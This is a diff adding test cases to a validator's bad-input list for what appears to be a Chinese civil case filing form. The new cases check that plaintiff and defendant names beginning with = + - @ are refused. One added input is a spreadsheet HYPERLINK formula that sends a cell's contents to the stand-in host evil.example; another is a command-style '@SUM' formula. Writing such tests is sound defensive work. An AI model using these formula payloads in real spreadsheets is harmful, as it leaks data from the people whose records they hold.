@@ -111,6 +111,13 @@ BAD_INPUTS = [
     ("case_number", {"case_number": "（2025）黑0902民X123号"}, "案件类型"),
     ("plaintiff_name", {"plaintiff_name": ""}, "请填写原告"),
     ("defendant_name", {"defendant_name": "··"}, "请填写名称"),
+    # Names reach the agencies' spreadsheets: one that Excel would run is refused.
+    (
+        "defendant_name",
+        {"defendant_name": '=HYPERLINK("http://evil.example/?x="&A2,"点击查看")'},
+        "不能以 = + - @ 开头",
+    ),
+    ("plaintiff_name", {"plaintiff_name": "@SUM(1+1)*cmd"}, "不能以 = + - @ 开头"),
     ("phone", {"phone": "1234567"}, "手机号码应为 11 位数字"),
     # Longer than the column (254): the form field alone would pass 320 (found by tests/fuzz).
     ("email", {"email": "a" * 250 + "@example.com"}, "电子邮箱过长"),
